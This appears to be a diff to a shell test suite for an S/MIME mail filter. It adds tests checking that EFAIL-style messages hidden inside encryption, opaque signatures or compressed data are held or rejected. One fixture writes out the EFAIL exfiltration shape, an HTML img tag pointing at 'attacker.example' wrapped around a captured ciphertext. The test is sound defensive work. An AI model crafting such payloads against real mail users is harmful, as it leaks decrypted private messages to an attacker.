@@ -578,5 +578,31 @@ for c in certs-only:certs-only:cert.p7c:0 enveloped:enveloped-data:smime.p7m:1; 
   elif [ "$want" = 1 ] && [ "$RC" = 1 ] && grep -q '554 5.7.1' <<<"$LOG"; then pass "$cn"
   else fail "$cn" "exit $RC (expected $want): $LOG"; fi
 done
+# The same EFAIL shape (HTML, a captured ciphertext for alice, HTML) where a look at the received
+# structure does not reach it: inside the attacker's own encryption to alice, inside an opaque
+# signature, inside compressed-data. Under "reject" none is delivered (until 2026-12-02 all
+# three were): the decrypted one takes the one way of undecryptable mail (held, RFC 3218),
+# the others are refused. Under "keep" they are delivered, the nested ciphertext untouched.
+EF=$WORK/m/efail.entity
+{ printf 'Content-Type: multipart/mixed; boundary="ef"\r\n\r\n--ef\r\nContent-Type: text/html\r\n\r\n<img src="http://attacker.example/\r\n'
+  printf -- '--ef\r\n%s\r\nContent-Transfer-Encoding: base64\r\n\r\n' "$ENV"; b64 "$WORK/m/aes256.der"
+  printf -- '--ef\r\nContent-Type: text/html\r\n\r\n">\r\n--ef--\r\n'; } >"$EF"
+o -encrypt -binary -aes256 -in "$EF" -outform DER -out "$WORK/m/efail-enc.der" "$A"
+o -sign -binary -nodetach "${SIGN[@]}" -in "$EF" -outform DER -out "$WORK/m/efail-opq.der"
+compressed "$WORK/m/efail-comp.der" "$EF"
+cms_mail efail-in-encryption efail-enc.der "$ENV"
+cms_mail efail-in-opaque-signature efail-opq.der "$OPQ"
+cms_mail efail-in-compressed efail-comp.der "$CMP"
+for c in efail-in-encryption:0:'action=hold .*nested-encrypted-part .*undecryptable=hold' \
+         efail-in-opaque-signature:1:'action=reject nested-encrypted-part .*554 5\.7\.1' \
+         efail-in-compressed:1:'action=reject nested-encrypted-part .*554 5\.7\.1'; do
+  IFS=: read -r cn want re <<<"$c"
+  run "$cn" reject
+  if [ "$RC" = "$want" ] && grep -Eq -- "$re" <<<"$LOG" && ! grep -q 'attacker.example' "$OUT"; then pass "$cn-reject"
+  else fail "$cn-reject" "exit $RC (expected $want): $LOG"; fi
+  run "$cn" keep
+  if [ "$RC" = 0 ] && ! grep -q nested-encrypted-part <<<"$LOG"; then pass "$cn-keep"
+  else fail "$cn-keep" "exit $RC: $LOG"; fi
+done
 
 note "took $((SECONDS - T0)) s"
